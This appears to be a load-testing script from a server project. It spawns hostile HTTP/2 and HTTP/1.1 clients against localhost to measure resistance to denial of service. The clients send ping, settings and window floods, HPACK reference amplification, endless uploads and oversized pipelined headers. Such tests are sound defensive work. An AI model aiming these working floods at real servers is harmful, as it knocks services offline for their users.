"""Clients that mean harm, in a process of their own so that they take no time from those who measure:

    attackers.py KIND PORT CONNECTIONS SECONDS

Each connection sends what its kind says, at 5 MB/s at most with HTTP/2, reads what comes, and is made again when it is
closed. The last line says how often that was.
"""

import contextlib
import select
import socket
import sys
import threading
import time

RATE = 5_000_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# GET, http, /api/good, :authority a.
GOOD = b"\x82\x86\x04\x09/api/good\x01\x01a"
UPLOAD = b"\x83\x86\x04\x0b/api/silent\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def again(piece, at_once=1 << 16):
    """The same frames for ever, some 64 KiB at once."""
    block = piece * (at_once // len(piece))
    while True:
        yield block


def heads(payload, trailers=None):
    """Requests without end, each on a stream of its own."""
    flags = END_HEADERS if trailers else END_HEADERS | END_STREAM
    stream = 3
    while True:
        block = []
        while len(block) < 40:
            block.append(frame(HEADERS, flags, stream, payload))
            if trailers:
                block.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, trailers))
            stream += 2
        yield b"".join(block)


def references(count=1900):
    """Heads of one-byte references to a field that the decoder remembers: 33 bytes each in its count."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, GOOD + b"\x40\x01a\x00")
    yield from heads(GOOD + b"\xbe" * count)


def upload(piece):
    """One request whose body never ends, and frames about it."""
    yield frame(HEADERS, END_HEADERS, 1, UPLOAD)
    yield from again(piece)


def pipelined(target, fields=""):
    """Requests of HTTP/1.1, each behind the other, whose heads are almost as long as they may be."""
    return again(f"GET {target} HTTP/1.1\r\nhost: a\r\n{fields}\r\n".encode(), 1 << 20)


KINDS_OF_HTTP1 = {
    "long lists": lambda: pipelined("/api/good", f"connection: {'a,' * 29_000}\r\n"),
    "long offers": lambda: pipelined("/api/good", f"connection: upgrade\r\nupgrade: {'a,' * 29_000}\r\n"),
    "long paths": lambda: pipelined(f"/api/{'a/' * 29_000}.."),
}

KINDS = {
    **KINDS_OF_HTTP1,
    "references": references,
    # Above the limit in bytes, so that h2 answers by itself.
    "oversized heads": lambda: references(2400),
    # RFC 9113 6.5.3, 6.7: each asks for an answer.
    "pings": lambda: again(frame(PING, 0, 0, b"12345678")),
    "settings": lambda: again(frame(SETTINGS, 0, 0)),
    "table sizes": lambda: again(frame(SETTINGS, 0, 0, b"\0\1\0\0\0\0" + b"\0\1\0\0\x10\0")),
    "priorities": lambda: again(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "unknown frames": lambda: again(frame(0x42, 0, 0)),
    "windows": lambda: again(frame(WINDOW, 0, 0, b"\0\0\0\1")),
    "empty data": lambda: upload(frame(DATA, 0, 1)),
    "padded data": lambda: upload(frame(DATA, 8, 1, b"\x40" + bytes(64))),
    "small data": lambda: upload(frame(DATA, 0, 1, b"x")),
    "trailers": lambda: heads(GOOD, trailers=b"\x00\x01a\x01b" * 50),
    "refused heads": lambda: heads(b"\x82\x86\x84" + b"\x40\x01a\x00" + b"\xbe" * 500),
}


def attack(port, kind, end, counts):
    """One connection, until it is closed or the time is over."""
    with socket.create_connection(("127.0.0.1", port), timeout=2) as wire:
        counts.append(1)
        if kind not in KINDS_OF_HTTP1:
            wire.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW, 0, 0, b"\x3f\xff\0\0"))
        wire.settimeout(0)
        for block in KINDS[kind]():
            due = time.monotonic() + (0 if kind in KINDS_OF_HTTP1 else len(block) / RATE)
            while block:
                if time.monotonic() > end:
                    return
                readable, writable, _ = select.select([wire], [wire], [], 0.1)
                if readable and not wire.recv(1 << 18):
                    return
                if writable:
                    block = block[wire.send(block):]
            time.sleep(max(0, due - time.monotonic()))


def main():
    kind, port, connections, seconds = sys.argv[1], *map(int, sys.argv[2:4]), float(sys.argv[4])
    end, counts = time.monotonic() + seconds, []

    def persist():
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                attack(port, kind, end, counts)
            time.sleep(0.02)

    threads = [threading.Thread(target=persist) for _ in range(connections)]
    print("begun", flush=True)
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(counts), flush=True)


if __name__ == "__main__":
    main()
